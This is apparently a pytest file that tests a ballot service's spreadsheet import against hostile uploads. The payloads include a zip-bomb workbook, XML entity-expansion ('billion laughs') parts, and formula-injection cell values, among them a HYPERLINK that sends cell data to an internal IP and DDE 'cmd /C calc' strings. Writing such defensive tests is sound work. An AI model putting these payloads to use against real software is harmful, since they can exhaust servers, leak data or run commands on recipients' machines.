"""Files that attack who opens them: the service that reads, the office that gets."""

import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from werkzeug.datastructures import FileStorage

from ballot_service.workflows import overview
from tests.spreadsheets.sample import FACTS, MEMBERS, SHEETS, csv_text, xlsx
from tests.spreadsheets.test_files import with_part
from tests.web.site import Site
from tests.web.test_import import paper_of

PLAIN = xlsx(SHEETS)


@pytest.fixture
def site(tmp_path: Path) -> Site:
    """Return a site with a draft that nobody has confirmed."""
    made = Site(tmp_path)
    made.sim.create()
    return made


LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha">%s]><x>&z;</x>' % b"".join(
    b'<!ENTITY %c "&%c;&%c;&%c;&%c;">' % (letter, *([letter - 1] * 4))
    for letter in range(ord("b"), ord("z") + 1)
)


def bomb() -> bytes:
    """Return a workbook of some kilobytes that unpacks to 300 MB."""
    out = io.BytesIO(PLAIN)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/image1.png", b"\0" * 300_000_000)
    return out.getvalue()


@pytest.mark.parametrize(
    "data",
    [
        bomb(),
        with_part(PLAIN, "xl/sharedStrings.xml", LAUGHS),
        with_part(PLAIN, "docProps/core.xml", LAUGHS),
    ],
    ids=["bomb", "entities in the texts", "entities beside the texts"],
)
def test_file_that_would_fill_the_memory_is_refused_unopened(
    site: Site, data: bytes
) -> None:
    secretary = site.signed_in("secretary")
    before = overview.list_events(site.sim.office)
    answer = secretary.post(
        "/secretary/import",
        "/secretary/import",
        roll_file=FileStorage(io.BytesIO(data), "ds.xlsx"),
        **FACTS,
    )
    assert answer.status_code == 422
    assert "<bdi>ds.xlsx</bdi>" in answer.text
    assert overview.list_events(site.sim.office) == before


@pytest.mark.parametrize(
    ("name", "comes_in"),
    [
        ('=HYPERLINK("http://10.0.0.9/"&A1,"Lý")', False),
        ("=cmd|' /C calc'!A0", False),
        ("+cmd|' /C calc'!A0", True),
        ("@SUM(1+1)*cmd", True),
        ("-2+3+cmd", True),
    ],
)
def test_name_that_is_a_command_runs_on_nobodys_machine(
    site: Site, name: str, comes_in: bool
) -> None:
    secretary = site.signed_in("secretary")
    rows = [list(row) for row in MEMBERS]
    rows[1][1] = name
    others = {title: sheet for title, sheet in SHEETS.items() if title != "Thành viên"}
    seen = secretary.post(
        "/secretary/import",
        "/secretary/import",
        roll_file=FileStorage(io.BytesIO(csv_text(rows, ";").encode()), "tv.csv"),
        list_file=FileStorage(io.BytesIO(xlsx(others)), "ns.xlsx"),
        **FACTS,
    )
    assert (seen.status_code == 200) == comes_in, seen.text
    if not comes_in:
        assert "Ô chứa công thức" in seen.text
        return
    made = secretary.post(
        "/secretary/import/confirm", "/secretary/import", paper=paper_of(seen)
    )
    event = made.location.rpartition("/")[2]
    sheet = load_workbook(
        io.BytesIO(secretary.get(f"/staff/{event}/roll.xlsx").data)
    ).worksheets[0]
    assert sheet["C2"].data_type == "s"
    assert str(sheet["C2"].value).startswith("'")
